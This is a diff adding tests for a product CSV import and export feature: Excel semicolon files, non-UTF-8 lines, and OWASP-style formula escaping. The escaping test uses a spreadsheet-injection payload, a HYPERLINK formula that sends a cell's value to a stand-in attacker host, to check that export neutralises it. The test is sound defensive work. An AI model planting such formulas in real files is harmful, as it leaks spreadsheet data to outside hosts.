@@ -302,3 +302,55 @@ describe('export paging', () => {
     expect(parseCsv(whole)).toHaveLength(1 + 3 + 50);
   });
 });
+
+describe('files from spreadsheets', () => {
+  it('reads semicolon files as Excel writes them in France or Germany (BOM, CRLF, ;)', async () => {
+    const excel = '\uFEFFhandle;title;sku;price:Web Shop\r\nberet-basque;Béret basque; BERET-1 ;2500\r\n';
+    const report = await importProductsCsv(t.deps, Buffer.from(excel, 'utf8'));
+    expect(report.errors).toEqual([]);
+    expect(report).toMatchObject({ rows: 1, products_created: 1, variants_created: 1 });
+    const beret = await t.admin<{ data: Product[] }>('GET', '/products?q=basque');
+    expect(beret.body.data[0]).toMatchObject({ handle: 'beret-basque', title: 'Béret basque' });
+    // Tab-separated text too.
+    expect(
+      (await importProductsCsv(t.deps, 'handle\ttitle\tsku\nbonnet\tBonnet\tBONNET-1\n')).errors,
+    ).toEqual([]);
+  });
+
+  it('reports lines that are not UTF-8 one by one and imports the rest', async () => {
+    const latin1 = Buffer.from(
+      'handle,title,sku\r\nsabot,Sabot,SABOT-1\r\nberet-rouge,B\xe9ret rouge,BERET-2\r\n',
+      'latin1',
+    );
+    const report = await importProductsCsv(t.deps, latin1);
+    expect(report.rows).toBe(2);
+    expect(report.errors).toEqual([
+      { line: 3, handle: '', message: expect.stringContaining('not valid UTF-8') },
+    ]);
+    expect(report).toMatchObject({ products_created: 1, variants_created: 1 });
+    const header = await importProductsCsv(t.deps, Buffer.from('h\xe9ndle,sku\nx,X-9\n', 'latin1'));
+    expect(header.errors).toEqual([
+      { line: 1, handle: '', message: expect.stringContaining('not valid UTF-8') },
+    ]);
+  });
+
+  it('escapes formulas on export (OWASP) and imports them back unchanged', async () => {
+    const title = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
+    const ok = await importProductsCsv(
+      t.deps,
+      `handle,title,description,sku\r\nformula-tee,"${title.replaceAll('"', '""')}",@SUM(1+1),TEE-F\r\n`,
+    );
+    expect(ok.errors).toEqual([]);
+    const text = await exportText(t);
+    const row = text.split('\r\n').find((l) => l.startsWith('formula-tee,')) as string;
+    expect(row).toContain(`"'=HYPERLINK(`);
+    expect(row).toContain(",'@SUM(1+1),");
+    expect(row).not.toMatch(/,=|,@|,"=/);
+    const again = await importProductsCsv(t.deps, text);
+    expect(again).toMatchObject({ errors: [], products_updated: 0, variants_updated: 0 });
+    const { rows } = await t.deps.db.query<{ title: string; description: string }>(
+      "SELECT title, description FROM products WHERE handle = 'formula-tee'",
+    );
+    expect(rows[0]).toEqual({ title, description: '@SUM(1+1)' });
+  });
+});
